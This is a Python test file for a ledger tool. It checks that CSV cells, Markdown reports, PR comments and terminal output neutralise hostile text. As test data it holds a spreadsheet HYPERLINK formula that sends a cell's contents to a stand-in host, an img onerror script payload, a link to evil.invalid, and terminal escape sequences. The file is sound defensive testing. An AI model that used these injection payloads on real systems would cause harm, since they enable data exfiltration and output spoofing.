"""Output escaping: ledger text reaching a spreadsheet, Markdown (and so
HTML) or a terminal is made inert, by one function per medium, on every writer's path."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from test_human import lower_tiers

import receipts as r
from conftest import ADMIN_ID, SIGNERS, contract_bytes, sign_decision
from ledger import (
    Ledger,
    csv_cell,
    export_bundle,
    markdown_text,
    population,
    population_csv,
    pr_comment,
    seal_receipt,
    terminal_text,
    verify_lines,
    waive_check,
)
from verify import TrustRoot, verify_receipt

VECTORS = json.loads((Path(__file__).parent / "vectors" / "escape.json").read_text(encoding="utf-8"))
FUNCTIONS = {"csv_cell": csv_cell, "markdown_text": markdown_text, "terminal_text": terminal_text}
CASES = [(kind, case) for kind in FUNCTIONS for case in VECTORS[kind]]

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
# Markup that would be live: a tag, or a link's "](" not preceded by a backslash.
LIVE_MARKDOWN = re.compile(r"<img|(?<!\\)\]\(")
MARKUP = "<img src=x onerror=alert(1)> [click](http://evil.invalid) | # \x1b[2J\rAPPROVED"


@pytest.mark.parametrize(("kind", "case"), CASES, ids=["%s:%s" % (k, c["name"]) for k, c in CASES])
def test_escape_vectors(kind: str, case: dict[str, str]) -> None:
    assert FUNCTIONS[kind](case["input"]) == case["output"]


def _hostile_receipt(env: tuple[Path, Ledger]) -> str:
    """An eligible receipt whose contract declares a formula as its author model and whose
    approval note and waiver carry markup and terminal escapes."""
    repo, ledger = env
    contract = contract_bytes(top="author_model = %s" % json.dumps(FORMULA))
    run = lower_tiers(env, contract)
    waive_check(ledger, SIGNERS["admin"], "TASK-1", "tests", MARKUP, 4102444800)
    sign_decision(ledger, repo, contract, run.record.input_hash, SIGNERS["alice"], note=MARKUP)
    _, appended = seal_receipt(ledger, task_id="TASK-1", signer=SIGNERS["sealer"], input_hash=run.record.input_hash)
    ledger.checkpoint(SIGNERS["sealer"])
    return str(appended.body_hash)


def test_a_formula_in_a_contract_is_text_in_the_population_csv(env: tuple[Path, Ledger]) -> None:
    _, ledger = env
    _hostile_receipt(env)
    rows = population(ledger, TrustRoot(frozenset({ADMIN_ID}), "t"), 0, 2**40)
    assert rows and rows[0].author_model == FORMULA
    table = list(csv.DictReader(io.StringIO(population_csv(rows))))
    assert table[0]["author_model"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row.values())


def test_markup_and_escapes_from_the_ledger_stay_text_in_comments_reports_and_terminals(
    env: tuple[Path, Ledger], tmp_path: Path
) -> None:
    _, ledger = env
    receipt = _hostile_receipt(env)
    result = verify_receipt(ledger.reader, receipt, TrustRoot(frozenset({ADMIN_ID}), "t"))
    assert result.ok and any("onerror" in w for w in result.waivers), result.waivers
    comment = pr_comment(result, receipt)
    assert "onerror" in comment and "&lt;img" in comment and not LIVE_MARKDOWN.search(comment), comment
    assert "\x1b" not in comment and "\r" not in comment
    export_bundle(ledger, r.Digest.parse(receipt), tmp_path / "b.zip")
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        report = zf.read("report.md").decode()
    assert "onerror" in report and not LIVE_MARKDOWN.search(report) and "\x1b" not in report, report
    shown = terminal_text("\n".join(verify_lines(result)))
    assert "onerror" in shown and "\x1b" not in shown and "\r" not in shown


def test_an_escape_sequence_in_bad_input_reaches_the_terminal_as_text(tmp_path: Path) -> None:
    from conftest import run_cli

    hostile = "blake3:\x1b]0;owned\x07\x1b[2J"
    nowhere = str(tmp_path / ("none\x1b]0;owned\x07"))
    for args in (
        ("--dir", nowhere, "verify", hostile, "--unsafe-trust-on-first-use"),
        ("verify", "--no-such-option" + hostile),
    ):
        res = run_cli(*args, cwd=tmp_path)
        assert res.returncode == 2 and res.stderr.count("\n") == 1, res.stderr
        assert "\x1b" not in res.stderr and "\x07" not in res.stderr and "\\x1b" in res.stderr, res.stderr
